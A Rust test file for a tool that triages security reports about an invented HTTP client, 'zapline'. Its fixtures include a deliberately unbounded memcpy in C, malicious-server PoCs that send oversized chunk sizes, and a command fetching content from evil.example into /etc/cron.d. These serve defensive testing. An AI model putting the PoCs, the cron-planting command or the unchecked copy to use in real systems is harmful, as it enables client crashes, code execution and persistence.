//! Precision first: each failure class of issue 16 with reports written for these tests
//! (about "zapline", an invented HTTP client library and command-line tool). A valid report
//! is never labelled junk on weak cues or on a class's words in passing; a claim that needs
//! what the policy excludes is non-qualifying, with the words shown; conflicting strong
//! findings ask for a person.

use triage::{
    Context, Finding, History, Label, Level, Policy, Report, Signal, SourceIndex,
    SourceIndexBuilder, Triage, Verdict, triage,
};

/// A policy whose classes are all prose of the project's own, full of common words.
const PROSE_POLICY: &str = r#"
[[non_qualifying]]
id = "small-leaks"
text = "Small memory or resource leaks that a short-lived process survives (unless they leak credentials)."

[[non_qualifying]]
id = "already-inside"
text = "Attacks by someone already present on the local system, who can read the user's files anyway."

[[non_qualifying]]
id = "debug-and-experiments"
text = "Code that is only compiled into debug builds, and experimental features that are off by default."

[[non_qualifying]]
id = "tool-crashes"
text = "A crash of the command-line tool caused by a file the user chose to open, and nothing worse."

[[non_qualifying]]
id = "own-command-line"
text = "Whatever the user's own command line or configuration file tells zapline to do, including tricking a user into running a command line."
"#;

fn policy(toml: &str) -> Policy {
    Policy::from_toml(toml).expect("test policy")
}

fn run_with(policy: &Policy, sources: &[SourceIndex], report: &Report) -> Triage {
    let history = History::default();
    let ctx = Context {
        project_name: Some("zapline"),
        sources,
        ..Context::new(policy, &history)
    };
    triage(report, &ctx)
}

fn strong(t: &Triage) -> Vec<&Finding> {
    t.findings
        .iter()
        .filter(|f| f.level == Level::Strong)
        .collect()
}

fn of(t: &Triage, s: Signal) -> Vec<&Finding> {
    t.findings.iter().filter(|f| f.signal == s).collect()
}

/// A small index of zapline's source: the chunk decoder and the public API.
fn zapline_source() -> Vec<SourceIndex> {
    let mut b = SourceIndexBuilder::new("zapline 2.4.1");
    b.add_file(
        "lib/chunked.c",
        br#"#include "zapline.h"

static int zl_hexval(int c)
{
  if(c >= '0' && c <= '9')
    return c - '0';
  if(c >= 'a' && c <= 'f')
    return c - 'a' + 10;
  return -1;
}

size_t zl_chunk_size(const char *line, size_t len)
{
  size_t size = 0;
  size_t i;
  for(i = 0; i < len; i++) {
    int v = zl_hexval(line[i]);
    if(v < 0)
      break;
    size = size * 16 + (size_t)v;
  }
  return size;
}

int zl_chunk_decode(struct zl_conn *conn, char *buf, size_t len)
{
  size_t want = zl_chunk_size(buf, len);
  memcpy(conn->body + conn->used, buf, want);
  conn->used += want;
  return 0;
}
"#,
    );
    b.add_file(
        "include/zapline/zapline.h",
        b"struct zl_conn;\nstruct zl_conn *zl_open(const char *url);\nint zl_perform(struct zl_conn *conn);\nvoid zl_close(struct zl_conn *conn);\n",
    );
    b.add_file(
        "src/tool_main.c",
        b"#include <zapline/zapline.h>\nint main(int argc, char **argv)\n{\n  struct zl_conn *c = zl_open(argv[1]);\n  int rc = zl_perform(c);\n  zl_close(c);\n  return rc;\n}\n",
    );
    vec![b.finish()]
}

/// A long, valid report that says "memory", "local", "file", "crash" and "debug" in
/// passing: its claim is a remote heap overflow.
const LONG_VALID: &str = r#"## Summary

A malicious HTTP server can overflow a heap buffer in zapline's chunked transfer decoder: `zl_chunk_decode()` copies as many bytes as the chunk-size line announces, without comparing that size with the space left in the connection's body buffer.

## Steps to reproduce

I built zapline 2.4.1 as a debug build with AddressSanitizer on my local machine, then served a crafted response from a file:

1. Save the response below to a file named `resp.bin`.
2. Serve it with `ncat -l 8080 < resp.bin`.
3. Run `zapline http://127.0.0.1:8080/`.

The crash happens on the first chunk. The memory layout in the debug build differs from a release build, but the copy is the same in both: nothing in the release build checks the size either.

```
==4121==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x602000000f1a
WRITE of size 65535 at 0x602000000f1a thread T0
    #0 0x4c2b9a in __asan_memcpy
    #1 0x5123f0 in zl_chunk_decode lib/chunked.c:29
    #2 0x51402c in zl_perform lib/transfer.c:211
```

## Details

`zl_chunk_size()` parses up to sixteen hex digits, so the announced size can be far larger than the 16 KiB body buffer; the local variable `want` is used as the length of the memcpy as it is.

## Impact

Any server a zapline user connects to, or any on-path party for plain HTTP, can write attacker-chosen bytes past the end of a heap buffer in the client process: at least a denial of service, likely remote code execution.

## Suggested fix

Compare `want` with `conn->size - conn->used` and fail the transfer when the chunk does not fit.
"#;

#[test]
fn a_long_valid_report_with_common_words_in_passing_is_not_non_qualifying() {
    let p = policy(PROSE_POLICY);
    let t = run_with(
        &p,
        &[],
        &Report::new("Heap overflow in the chunked decoder", LONG_VALID),
    );
    assert_eq!(t.label, Label::Valid, "{:#?}", t.findings);
    assert!(
        of(&t, Signal::NonQualifyingClass)
            .iter()
            .all(|f| f.level == Level::Info),
        "{:#?}",
        t.findings
    );
    assert_ne!(t.verdict, Verdict::LikelyInvalid);
    // With the source at hand too (the PoC server and the tool run are not "elsewhere").
    let t = run_with(
        &p,
        &zapline_source(),
        &Report::new("Heap overflow in the chunked decoder", LONG_VALID),
    );
    assert_eq!(t.label, Label::Valid, "{:#?}", t.findings);
    assert!(strong(&t).is_empty(), "{:#?}", strong(&t));
}

#[test]
fn a_claim_that_needs_local_access_is_non_qualifying_with_the_words_shown() {
    let p = policy(PROSE_POLICY);
    let text = "## Summary\n\nzapline writes its cookie jar to a predictable name in /tmp, so the jar can be swapped before it is read back.\n\n## Steps\n\n1. As a second account, create /tmp/zapline-cookies.txt as a symlink.\n2. Wait for the victim to run zapline with --cookie-jar.\n\nThe file then points wherever the second account wants.\n\n## Impact\n\nA local user on the same machine can replace the victim's cookies with their own, or read the cookies zapline writes.\n";
    let t = run_with(&p, &[], &Report::new("Predictable cookie jar path", text));
    assert_eq!(t.label, Label::NonQualifying, "{:#?}", t.findings);
    let f = of(&t, Signal::NonQualifyingClass)
        .into_iter()
        .find(|f| f.level == Level::Strong)
        .expect("a strong class finding");
    assert!(
        f.detail.contains("local user"),
        "the matched words are shown: {}",
        f.detail
    );
    assert!(f.detail.contains("impact"), "{}", f.detail);
    assert_eq!(
        f.policy_ref.as_deref(),
        Some(
            "non_qualifying[1] already-inside: \"Attacks by someone already present on the local system, who can read the user's files anyway.\""
        )
    );
    assert!(
        f.evidence
            .iter()
            .any(|e| text[e.start..e.end].contains("local user")),
        "{:#?}",
        f.evidence
    );
}

#[test]
fn a_claim_that_needs_the_users_own_command_line_is_non_qualifying() {
    let p = policy(PROSE_POLICY);
    let text = "## Summary\n\nBy tricking a user into running a zapline command line with `--output /etc/cron.d/job`, an attacker makes zapline overwrite any file the user can write.\n\n## Steps\n\n1. Send the victim the command `zapline -o /etc/cron.d/job https://evil.example/job`.\n2. The victim runs it.\n\n## Impact\n\nThe file is overwritten with content the attacker serves.\n";
    let t = run_with(
        &p,
        &[],
        &Report::new("Arbitrary file overwrite with --output", text),
    );
    assert_eq!(t.label, Label::NonQualifying, "{:#?}", t.findings);
    let f = of(&t, Signal::NonQualifyingClass)
        .into_iter()
        .find(|f| f.level == Level::Strong)
        .expect("a strong class finding");
    assert!(
        f.policy_ref
            .as_deref()
            .is_some_and(|r| r.starts_with("non_qualifying[4] own-command-line:")),
        "{:?}",
        f.policy_ref
    );
    assert!(
        f.detail.contains("tricking a user into running"),
        "{}",
        f.detail
    );
}

#[test]
fn a_class_phrase_in_the_title_matches_and_the_same_phrase_in_passing_does_not() {
    let p = policy(PROSE_POLICY);
    // The report's claim is the class: a resource leak.
    let claim = Report::new(
        "Resource leak when a redirect fails",
        "Each failed redirect leaves one socket open until exit; nothing else happens.",
    );
    let t = run_with(&p, &[], &claim);
    assert_eq!(t.label, Label::NonQualifying, "{:#?}", t.findings);
    let f = of(&t, Signal::NonQualifyingClass)
        .into_iter()
        .find(|f| f.level == Level::Strong)
        .expect("strong");
    assert!(
        f.detail.contains("\"Resource\"") && f.detail.contains("\"leak\""),
        "{}",
        f.detail
    );
    // The same phrase as an aside of a long valid report is a note.
    let aside = format!(
        "{LONG_VALID}\n## Notes\n\nWhile testing I also saw a resource leak when a redirect fails; I will file it as a normal bug.\n"
    );
    let t = run_with(
        &p,
        &[],
        &Report::new("Heap overflow in the chunked decoder", aside),
    );
    assert_eq!(t.label, Label::Valid, "{:#?}", t.findings);
    assert!(
        of(&t, Signal::NonQualifyingClass)
            .iter()
            .any(|f| f.level == Level::Info && f.detail.starts_with("a note")),
        "{:#?}",
        t.findings
    );
}

#[test]
fn negated_preconditions_and_outcomes_do_not_match() {
    let p = policy(
        "[[non_qualifying]]\nid = \"requires-admin\"\n[[non_qualifying]]\nid = \"local-attacker\"\ntext = \"Attacks that need a local attacker.\"\n",
    );
    let text = "## Summary\n\nAn unauthenticated remote user can gain administrator rights through the password reset form of the zapline web console; the attack does not need local access.\n\n## Steps\n\n1. POST the reset form twice with the same token.\n\n## Impact\n\nFull takeover of the console without any account.\n";
    let t = run_with(
        &p,
        &[],
        &Report::new("Privilege escalation via reset", text),
    );
    assert_eq!(t.label, Label::Valid, "{:#?}", t.findings);
    assert!(
        of(&t, Signal::NonQualifyingClass).is_empty(),
        "{:#?}",
        t.findings
    );
}

#[test]
fn code_execution_in_a_valid_memory_safety_report_is_not_slop() {
    let p = Policy::default();
    let reports = [
        Report::new(
            "Use after free in connection reuse",
            "## Summary\n\nWhen a reused connection is closed by the server during a redirect, `zl_perform()` frees the connection but keeps it in the pool, and the next transfer uses it: a use after free.\n\n## Impact\n\nA malicious server can trigger the use after free and the following double free; with heap grooming this is arbitrary code execution in the client.\n",
        ),
        Report::new(
            "Double free in header parser",
            "## Summary\n\nA response with two `Content-Encoding` headers makes the header parser free the decoder chain twice (double free).\n\n## Steps\n\n```sh\nprintf 'HTTP/1.1 200 OK\\r\\nContent-Encoding: gzip\\r\\nContent-Encoding: br\\r\\n\\r\\n' | ncat -l 8080 &\nzapline http://127.0.0.1:8080/\n```\n\n## Impact\n\nCritical: heap overflow and code execution in any application using zapline against a hostile server.\n",
        ),
    ];
    for r in &reports {
        let t = run_with(&p, &[], r);
        assert_eq!(t.label, Label::Valid, "{}: {:#?}", r.title, t.findings);
        assert!(
            of(&t, Signal::SeverityInflation)
                .iter()
                .all(|f| f.level == Level::Info),
            "{}: {:#?}",
            r.title,
            t.findings
        );
        assert_ne!(t.verdict, Verdict::LikelyInvalid);
    }
}

#[test]
fn a_malicious_server_poc_against_a_client_library_touches_the_project() {
    let p = Policy::default();
    let sources = zapline_source();
    let with_run = "## Summary\n\nA server that sends a chunk size of `ffffffff` overflows the body buffer in `zl_chunk_decode()`.\n\n## PoC\n\n```python\nimport socket\n\ns = socket.socket()\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\ns.bind(('127.0.0.1', 8080))\ns.listen(1)\nconn, _ = s.accept()\nconn.recv(4096)\nconn.sendall(b'HTTP/1.1 200 OK\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nffffffff\\r\\n' + b'A' * 70000)\nconn.close()\n```\n\nThen point the tool at it: `zapline http://127.0.0.1:8080/` and it crashes with SIGSEGV.\n";
    let t = run_with(&p, &sources, &Report::new("Chunk size overflow", with_run));
    assert!(
        of(&t, Signal::PocNotTouchingProject).is_empty(),
        "{:#?}",
        t.findings
    );
    assert_eq!(t.label, Label::Valid, "{:#?}", t.findings);
    // The server alone, the client left to the prose: still the project's peer.
    let server_only = "The PoC is a server; any program using the library that fetches from it crashes.\n\n```python\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\n\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.send_response(200)\n        self.send_header('Transfer-Encoding', 'chunked')\n        self.end_headers()\n        self.wfile.write(b'ffffffff\\r\\n' + b'A' * 70000)\n\nHTTPServer(('', 8080), H).serve_forever()\n```\n";
    let t = run_with(
        &p,
        &sources,
        &Report::new("Chunk size overflow", server_only),
    );
    assert!(
        of(&t, Signal::PocNotTouchingProject).is_empty(),
        "{:#?}",
        t.findings
    );
}

#[test]
fn a_poc_that_only_calls_the_c_library_does_not_touch_the_project() {
    let p = Policy::default();
    let text = "The chunk decoder overflows. PoC:\n\n```c\n#include <stdio.h>\n#include <string.h>\n\nint main(void) {\n    char body[16];\n    const char *chunk = \"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\";\n    memcpy(body, chunk, strlen(chunk));\n    printf(\"%s\\n\", body);\n    return 0;\n}\n```\n";
    let t = run_with(
        &p,
        &zapline_source(),
        &Report::new("Overflow in chunk decoder", text),
    );
    let f = of(&t, Signal::PocNotTouchingProject);
    assert_eq!(f.len(), 1, "{:#?}", t.findings);
    assert_eq!(f[0].level, Level::Strong);
    assert!(
        f[0].detail.contains("only the C library"),
        "{}",
        f[0].detail
    );
}

#[test]
fn weak_cues_alone_never_label_junk() {
    let p = Policy::default();
    // Filler, hedges around an unsafe call, template brackets, severity words, a chatbot-ish
    // sign-off, an alarming title: many notes, no verifiable finding.
    let text = "## Summary\n\n[A critical vulnerability in zapline that could potentially lead to full system compromise.]\n\n## Affected version\n\n[all versions]\n\nIt is crucial to address this. The code uses strcpy( which could potentially lead to a buffer overflow and may lead to code execution if exploited. Comprehensive testing is recommended; prompt action is essential to avoid significant security risks. In conclusion, this is critical.\n\nI hope this helps. Let me know if you need any further details.\n";
    let t = run_with(
        &p,
        &[],
        &Report::new("CRITICAL: Remote Code Execution risk", text),
    );
    assert!(strong(&t).is_empty(), "{:#?}", strong(&t));
    assert!(
        t.findings.iter().filter(|f| f.level == Level::Weak).count() >= 2,
        "the test needs several weak cues: {:#?}",
        t.findings
    );
    assert_eq!(t.label, Label::Valid, "{:#?}", t.findings);
    assert_eq!(t.verdict, Verdict::NeedsReview);
}

#[test]
fn strong_findings_for_different_junk_labels_ask_for_review() {
    let p = policy(PROSE_POLICY);
    // A leak (the policy's class, in the title) with tool output that was written, not run.
    let text = "## Summary\n\nzapline leaks the redirect buffer on every failed redirect.\n\n## Valgrind\n\n```\n==XXXX== 64 bytes in 1 blocks are definitely lost\n==XXXX==    at 0xxxxxxx: malloc\n==XXXX==    by 0xxxxxxx: zl_follow\n```\n";
    let t = run_with(
        &p,
        &[],
        &Report::new("Resource leak in redirect handling", text),
    );
    let labels: Vec<Signal> = strong(&t).iter().map(|f| f.signal).collect();
    assert!(
        labels.contains(&Signal::NonQualifyingClass) && labels.contains(&Signal::UnprovenClaim),
        "the test needs both strong findings: {:#?}",
        t.findings
    );
    assert_eq!(t.verdict, Verdict::NeedsReview, "{:#?}", t.findings);
}

#[test]
fn missing_code_against_confirmed_code_is_not_a_junk_label() {
    let p = Policy::default();
    // The report quotes the real `zl_chunk_size` and also a `zl_chunk_decode` that is not
    // the project's (an older or misremembered version, or a misreading): the source agrees
    // with one and not the other, so a person decides.
    let text = "The size parser:\n\n```c\nsize_t zl_chunk_size(const char *line, size_t len)\n{\n  size_t size = 0;\n  size_t i;\n  for(i = 0; i < len; i++) {\n    int v = zl_hexval(line[i]);\n    if(v < 0)\n      break;\n    size = size * 16 + (size_t)v;\n  }\n  return size;\n}\n```\n\nAnd the decoder, in a test program that links the library:\n\n```c\n#include <zapline/zapline.h>\n\nint zl_chunk_decode(struct zl_conn *conn, char *buf, size_t len)\n{\n  char tmp[64];\n  sprintf(tmp, \"%s\", buf);\n  strcat(conn->body, tmp);\n  conn->flags |= 4;\n  return (int)len;\n}\n\nint main(void) { return zl_perform(zl_open(\"http://127.0.0.1/\")); }\n```\n";
    let t = run_with(
        &p,
        &zapline_source(),
        &Report::new("Overflow in chunk decoder", text),
    );
    assert!(
        !of(&t, Signal::QuotedCodeFound).is_empty()
            && of(&t, Signal::QuotedCodeMismatch)
                .iter()
                .any(|f| f.level == Level::Strong),
        "the test needs both findings: {:#?}",
        t.findings
    );
    assert_eq!(t.label, Label::Valid, "{:#?}", t.findings);
    assert_eq!(t.verdict, Verdict::NeedsReview);
}

#[test]
fn an_advisory_named_in_the_references_is_a_note_and_in_the_claim_a_duplicate() {
    let history = History {
        advisories: vec![triage::KnownAdvisory::new(
            "ZAP-2025-0003",
            vec!["CVE-2025-31337".into()],
            "Chunk extension overflow",
            "A long chunk extension overflows the line buffer of the chunked decoder.",
        )],
        ..History::default()
    };
    let p = Policy::default();
    let ctx = Context {
        project_name: Some("zapline"),
        ..Context::new(&p, &history)
    };
    let aside = format!(
        "{LONG_VALID}\n## References\n\nA different bug in the same decoder was CVE-2025-31337 (the chunk extension).\n"
    );
    let t = triage(
        &Report::new("Heap overflow in the chunked decoder", aside),
        &ctx,
    );
    assert_ne!(t.label, Label::Duplicate, "{:#?}", t.findings);
    assert!(
        of(&t, Signal::KnownAdvisory)
            .iter()
            .all(|f| f.level != Level::Strong),
        "{:#?}",
        t.findings
    );
    let claim = "## Summary\n\nzapline is still affected by CVE-2025-31337: a long chunk extension overflows the line buffer.\n\n## Steps\n\n1. Serve a chunk line with a 70000-byte extension.\n2. Fetch it with zapline 2.4.1.\n\nThe client aborts in the decoder.\n\n## Impact\n\nA malicious server overflows a heap buffer in any client.\n";
    let t = triage(&Report::new("Chunk extension overflow", claim), &ctx);
    assert_eq!(t.label, Label::Duplicate, "{:#?}", t.findings);
}

#[test]
fn a_low_impact_class_against_a_claim_of_memory_corruption_is_a_question() {
    let p = policy(
        "[[non_qualifying]]\nid = \"null-dereferences\"\ntext = \"A NULL dereference or crash a malicious server causes, and nothing worse, is not a vulnerability. Servers can cause a denial of service anyway.\"\n",
    );
    // The class's own topic, alone: non-qualifying.
    let crash = Report::new(
        "NULL dereference on an empty Location header",
        "A server that answers a redirect with an empty `Location:` header makes zapline dereference a NULL pointer and crash. Nothing else happens.",
    );
    let t = run_with(&p, &[], &crash);
    assert_eq!(t.label, Label::NonQualifying, "{:#?}", t.findings);
    // The same topic with a heap overflow claimed plainly: a question, not a label.
    let worse = Report::new(
        "NULL dereference and heap overflow in the SASL decoder",
        "## Summary\n\nA crafted SASL challenge makes the decoder dereference a NULL pointer on one path and, on the other, write four bytes past the end of a heap allocation.\n\n## Impact\n\nThe heap overflow is reachable by any server the client authenticates to.\n",
    );
    let t = run_with(&p, &[], &worse);
    assert_eq!(t.label, Label::Valid, "{:#?}", t.findings);
    let f = of(&t, Signal::NonQualifyingClass);
    assert!(
        f.iter()
            .any(|f| f.level == Level::Weak && f.detail.contains("heap overflow")),
        "{f:#?}"
    );
    // Nor does the class's reason ("denial of service") make a DoS report non-qualifying.
    let dos = Report::new(
        "Denial of service via unbounded header folding",
        "A malicious server can make the client allocate memory without bound by sending an endless folded header: each continuation line is appended and no total limit applies.",
    );
    let t = run_with(&p, &[], &dos);
    assert_eq!(t.label, Label::Valid, "{:#?}", t.findings);
}

#[test]
fn test_files_used_to_reproduce_are_not_an_out_of_scope_claim() {
    let p = policy("out_of_scope_paths = [\"tests/**\"]\n");
    let text = format!(
        "{LONG_VALID}\n## Test case\n\nThe bug reproduces with the test suite: tests/libtest/lib2901.c drives tests/server/sws.c through tests/libtest/first.c, run by tests/runtests.pl 2901.\n"
    );
    let t = run_with(
        &p,
        &[],
        &Report::new("Heap overflow in the chunked decoder", text),
    );
    assert_eq!(t.label, Label::Valid, "{:#?}", t.findings);
    let f = of(&t, Signal::OutOfScopePath);
    assert!(
        !f.is_empty() && f.iter().all(|f| f.level == Level::Weak),
        "{f:#?}"
    );
}

#[test]
fn a_prose_class_of_common_words_never_matches_on_them() {
    let p = policy(
        "[[non_qualifying]]\nid = \"misc\"\ntext = \"Reports about memory, local files, crashes, debug output or the user.\"\n",
    );
    let r = Report::new(
        "Crash in the local file parser exposes memory of another user",
        "## Summary\n\nOpening a crafted local file makes the parser read memory that belongs to another user's session and print it in the debug output of the crash handler.\n\n## Impact\n\nA user reads another user's session memory.\n",
    );
    let t = run_with(&p, &[], &r);
    assert_eq!(t.label, Label::Valid, "{:#?}", t.findings);
    assert!(
        of(&t, Signal::NonQualifyingClass).is_empty(),
        "{:#?}",
        t.findings
    );
}

/// Claims, headings, fields and preconditions cut anywhere, with non-ASCII text around
/// them: no panic, and every quote is the text it points at.
#[test]
fn claim_reading_never_panics() {
    let pieces = [
        "## Impact",
        "Impact: ",
        "**Summary**",
        "Summary:",
        "é",
        "’",
        "\n",
        "\n\n",
        "Hi team,",
        "Affected version: 1.2.3",
        "a local user on the same machine",
        "does not need local access",
        "tricking a user into running",
        "only in debug builds",
        "memory leak",
        "NULL dereference",
        "heap overflow",
        "```",
        "ß:",
        "🙏.",
        ". ",
        "unless",
        "CRLF injection",
        "## Preconditions",
        "Fix: ",
    ];
    let p = policy(PROSE_POLICY);
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    for len in 0..300 {
        let mut text = String::new();
        for _ in 0..(len % 70) {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            text.push_str(pieces[(seed % pieces.len() as u64) as usize]);
        }
        let title: String = text.chars().rev().take(30).collect();
        let t = run_with(&p, &[], &Report::new(title.clone(), text.clone()));
        for e in t.findings.iter().flat_map(|f| &f.evidence) {
            let src = if e.field == triage::Field::Title {
                &title
            } else {
                &text
            };
            assert_eq!(src.get(e.start..e.end), Some(e.quote.as_str()));
        }
    }
}
